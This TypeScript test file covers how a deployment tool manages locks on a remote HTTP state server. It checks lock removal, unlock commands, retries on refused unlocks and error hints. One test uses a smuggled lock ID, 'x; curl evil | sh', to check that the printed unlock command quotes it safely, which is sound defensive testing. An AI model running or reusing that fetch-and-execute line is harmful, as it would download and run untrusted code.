import { expect, test } from 'vitest'
import {
  LockedError,
  LockMismatchError,
  StateConflictError,
  StateWriteError,
} from '../../../../reconciler/errors/index.ts'
import { initState, openSession, readSession, unlockState } from '../../../../reconciler/state/index.ts'
import { hostWith } from '../support/hosts.ts'
import { intentFor, put } from '../support/samples.ts'
import { system, optionsFor, begun, failureOf, always } from './support/http.ts'
import { type Fate, type Manner, type StateServer, stateServer } from './support/state-server.ts'

test('whose lock was removed at the server itself writes nothing more, and the next one waits for it', async () => {
  for (const manner of ['plain', 'gitlab'] as const) {
    const { server, options, open } = await begun(manner)
    const far = { ...system, host: { ...hostWith(500, () => true), name: 'elsewhere' } }
    const session = await openSession(options, far)
    await session.intent(intentFor('things.a'))
    server.lock = undefined
    const next = await open()
    expect(next.unlocked.unlockedAt).toBeDefined()
    await expect(session.effects([put('things.b')])).rejects.toMatchObject({
      code: StateConflictError.code,
      message: expect.stringContaining('the lock was removed; now "apply" (process '),
    })
    await next.effects([put('things.c')])
    await next.close()
    expect(server.lock).toBeUndefined()
  }
})

const idOf = ({ lock }: StateServer) => lock?.['ID'] as string

test('the time at which a removal arrived is never that of an earlier removal', async () => {
  const began = Date.parse('2026-11-20T12:00:00Z')
  let passed = 0
  const now = () => new Date(began + passed)
  const given = { ...system, now }
  const ways: ((server: StateServer, options: ReturnType<typeof optionsFor>) => Promise<void> | void)[] = [
    (server) => void (server.lock = undefined),
    async (server, options) => {
      let saves = 0
      // The first one removes the owner, the second one says that this has arrived.
      server.fate = ({ method }) => (method === 'POST' && (saves += 1) > 1 ? 403 : 'answer')
      await unlockState(options, { id: idOf(server) }, given)
      server.fate = () => 'answer'
    },
  ]
  for (const remove of ways) {
    passed = 0
    const { server, options } = await begun()
    await openSession(options, given)
    await unlockState(options, { id: idOf(server) }, given)
    passed = 60_000
    await openSession(options, given)
    await remove(server, options)
    passed = 70_000
    const { unlocked } = await openSession(options, given)
    expect(Date.parse(unlocked.unlockedAt ?? '')).toBeGreaterThanOrEqual(began + 60_000)
    expect(unlocked.landedAt).toBe(now().toISOString())
  }
})

test('at GitLab, whoever has taken the lock and not entered itself yet is named as the server does', async () => {
  const { server, open } = await begun('gitlab')
  const [entering, refused] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()]
  server.fate = async ({ method, path }): Promise<Fate> => {
    if (method !== 'POST' || path.endsWith('/lock')) return 'answer'
    entering.resolve()
    await refused.promise
    return 'answer'
  }
  const first = open()
  await entering.promise
  await expect(open()).rejects.toMatchObject({
    code: LockedError.code,
    message: expect.stringMatching(/^the state is locked by "root", since /u),
  })
  refused.resolve()
  await (await first).close()
})

test('GitLab refuses a save also while nobody has the lock', async () => {
  const { server, open } = await begun('gitlab')
  const session = await open()
  server.lock = undefined
  await expect(session.intent(intentFor('things.a'))).rejects.toMatchObject({
    code: StateConflictError.code,
    message: 'the state was not saved: the lock was removed',
  })
})

test('unlock knows an owner whose lock is gone at the server already', async () => {
  const { server, options, open } = await begun()
  await open()
  const id = server.lock?.['ID'] as string
  server.lock = undefined
  await unlockState(options, { id, ownerEnded: true }, system)
  expect((await readSession(options, system)).busy).toBeUndefined()
  await expect(unlockState(options, { id }, system)).rejects.toThrow(LockMismatchError)
  expect((await open()).unlocked.unlockedAt).toBeUndefined()
})

test.each<Manner>(['plain', 'gitlab'])(
  'as %s, a lock of Terraform is named, and removed by its id',
  async (manner) => {
    const { server, options, open } = await begun(manner)
    const ID = 'eadac9ac-51fd-b9cf-9d67-28a6bb2075e5'
    const Who = 'root@vm'
    server.lock = {
      ID,
      Operation: 'OperationTypeApply',
      Info: '',
      Who,
      Version: '1.11.4',
      Created: 'today',
      Path: '',
    }
    await expect(open()).rejects.toMatchObject({
      code: LockedError.code,
      message: expect.stringMatching(/the state is locked by "root(@vm)?", since today/),
      hint: expect.stringContaining(`deploymgmt state unlock ${ID}`),
    })
    await expect(unlockState(options, { id: 'another' }, system)).rejects.toThrow(ID)
    await unlockState(options, { id: ID }, system)
    expect(server.lock).toBeUndefined()
  },
)

/** A server that says that the lock is held, but not by whom. */
const tellingNoId = (server: StateServer): void => {
  server.fate = ({ method }) => (method === 'LOCK' && server.lock !== undefined ? 423 : 'answer')
}

test('a lock whose holder the server does not tell is told so', async () => {
  const { server, open } = await begun()
  server.fate = ({ method }) => (method === 'LOCK' ? 423 : 'answer')
  await expect(open()).rejects.toMatchObject({
    code: LockedError.code,
    hint: expect.stringContaining('does not say what the id'),
  })
})

test('a lock of which the server does not tell the id is named by the document, and removed by its id', async () => {
  const { server, options, open } = await begun()
  const session = await open()
  const id = server.lock?.['ID'] as string
  tellingNoId(server)
  await expect(open()).rejects.toMatchObject({
    code: LockedError.code,
    hint: expect.stringContaining(`deploymgmt state unlock ${id}`),
  })
  await expect(unlockState(options, { id: 'another' }, system)).rejects.toThrow(LockMismatchError)
  expect(server.lock).toMatchObject({ ID: id })
  await unlockState(options, { id }, system)
  expect(server.lock).toBeUndefined()
  await expect(session.intent(intentFor('things.a'))).rejects.toThrow(StateConflictError)
  const next = await open()
  expect(next.unlocked.unlockedAt).toBeDefined()
  await next.close()
})

test('the id of a lock is one word of the command that is named, whatever the server says', async () => {
  const { server, options, open } = await begun()
  const id = 'x; curl evil | sh'
  server.lock = { ID: id, Who: 'somebody' }
  for (const refused of [open, () => unlockState(options, { id: 'x' }, system)])
    await expect(refused()).rejects.toMatchObject({
      hint: expect.stringContaining(`deploymgmt state unlock 'x; curl evil | sh'`),
    })
  await unlockState(options, { id }, system)
  expect(server.lock).toBeUndefined()
})

test('an attempt at the lock that was not heard of, at a server that tells no id, prints its own', async () => {
  const { server, options, open } = await begun()
  server.fate = ({ method }) => {
    if (method !== 'LOCK') return 'answer'
    return server.lock === undefined ? 'cut-after' : 423
  }
  const error = await failureOf(open())
  const id = server.lock?.['ID'] as string
  expect(error).toMatchObject({
    code: LockedError.code,
    hint: expect.stringContaining(`deploymgmt state unlock ${id}`),
  })
  tellingNoId(server)
  await unlockState(options, { id }, system)
  server.fate = () => 'answer'
  await (await open()).close()
})

/** The error names the command that removes the lock, after which the next one gets in. */
const expectUnlocked = async (
  { server, options, open }: Awaited<ReturnType<typeof begun>>,
  error: unknown,
): Promise<void> => {
  const id = server.lock?.['ID'] as string
  expect(error).toMatchObject({
    code: StateWriteError.code,
    hint: expect.stringContaining(`state unlock ${id}`),
  })
  server.fate = () => 'answer'
  await unlockState(options, { id }, system)
  await (await open()).close()
}

test('an attempt at the lock that nobody heard of prints its id', async () => {
  const here = await begun()
  here.server.fate = ({ method }) => (method === 'LOCK' ? 'cut-after' : 'answer')
  const error = await failureOf(here.open())
  await expectUnlocked(here, error)
  expect(here.server.lock).toBeUndefined()
})

test('a lock that could not be given back is told of, with what removes it', async () => {
  for (const method of ['POST', 'UNLOCK']) {
    const here = await begun()
    const session = await here.open()
    always(here.server, method, 'fail')
    const error = await failureOf(session.close())
    await expectUnlocked(here, error)
    expect(here.server.lock).toBeUndefined()
  }
})

test('a lock that somebody takes over while it is given back is left to them', async () => {
  const { server, open } = await begun()
  const session = await open()
  const theirs = { ...server.lock, ID: 'of-somebody' }
  const before = server.log.length
  server.fate = ({ method }) => {
    if (method === 'POST') server.lock = theirs
    return 'answer'
  }
  await session.close()
  expect(server.lock).toBe(theirs)
  // Not every server would see that it is another one.
  expect(server.log.slice(before).map(({ method }) => method)).not.toContain('UNLOCK')
})

test.each<readonly [Manner, number]>([
  ['plain', 409],
  ['plain', 423],
  ['gitea', 409],
  ['gitlab', 409],
])(
  'as %s, a lock whose return is refused with %d once or twice is given back again',
  async (manner, status) => {
    for (const times of [1, 2]) {
      const { server, open } = await begun(manner)
      const session = await open()
      await session.effects([put('things.a')])
      let returns = 0
      server.fate = ({ method }) =>
        ['UNLOCK', 'DELETE'].includes(method) && (returns += 1) <= times ? status : 'answer'
      await session.close()
      expect({ returns, lock: server.lock }).toEqual({ returns: times + 1, lock: undefined })
    }
  },
)

test.each<readonly [Manner, number]>([
  ['plain', 409],
  ['plain', 423],
  ['gitea', 409],
  ['gitlab', 409],
])(
  'as %s, a lock whose return is refused with %d for good is told, with what takes it away',
  async (manner, status) => {
    const { server, open } = await begun(manner)
    const session = await open()
    await session.effects([put('things.a')])
    server.fate = ({ method }) => (['UNLOCK', 'DELETE'].includes(method) ? status : 'answer')
    await expect(session.close()).rejects.toMatchObject({
      code: 'DM-STATE-WRITE',
      message: expect.stringContaining('cannot release the lock of the state'),
      hint: expect.stringMatching(/^The state is still locked: deploymgmt state unlock /),
    })
    expect(server.lock).toBeDefined()
  },
)

test('an unlock that cannot give back its own lock says so, with the command that removes it', async () => {
  const { server, open, options } = await begun()
  await open()
  const id = server.lock?.['ID'] as string
  server.fate = ({ method, body }) => (method === 'UNLOCK' && !body.includes(id) ? 423 : 'answer')
  const error = await failureOf(unlockState(options, { id }, system))
  const own = server.lock?.['ID'] as string
  expect(own).not.toBe(id)
  expect(error).toMatchObject({
    code: 'DM-STATE-WRITE',
    hint: expect.stringContaining(`deploymgmt state unlock ${own}`),
  })
  server.fate = () => 'answer'
  await unlockState(options, { id: own }, system)
  await (await open()).close()
})

test('a server without a lock is told of, with how it could be meant', async () => {
  for (const status of [404, 405, 501]) {
    const { server, open } = await begun()
    always(server, 'LOCK', status)
    await expect(open()).rejects.toMatchObject({
      code: StateWriteError.code,
      message: expect.stringContaining('cannot lock the state'),
      hint: expect.stringMatching(/#lock.*A server that cannot lock cannot keep a state\.$/),
    })
  }
})

test('a server without a lock beside the address is told of as one', async () => {
  const server = await stateServer('beside')
  always(server, 'POST', 405)
  const options = { ...optionsFor(server), statePath: `${server.address}#lock` }
  await expect(initState(options, system)).rejects.toMatchObject({
    hint: expect.stringMatching(/omit #lock\. A server that cannot lock cannot keep a state\.$/),
  })
})

test('an address can say that its lock is beside it', async () => {
  const server = await stateServer('beside')
  const options = { ...optionsFor(server), statePath: `${server.address}#lock` }
  await initState(options, system)
  expect((await readSession(options, system)).place).toBe(`${server.address}#lock`)
  expect(server.log[0]).toMatchObject({ method: 'POST', path: '/states/acme/lock' })
})

test('a server that gives its lock to everybody gets no first state', async () => {
  const server = await stateServer()
  server.fate = ({ method }) => (method === 'LOCK' || method === 'UNLOCK' ? 200 : 'answer')
  await expect(initState(optionsFor(server), system)).rejects.toMatchObject({
    code: StateConflictError.code,
    message: 'the state was not saved: the lock was removed, or the server keeps none',
    hint: expect.stringContaining('A server that cannot lock cannot keep a state.'),
  })
  expect(server.document).toBeUndefined()
})
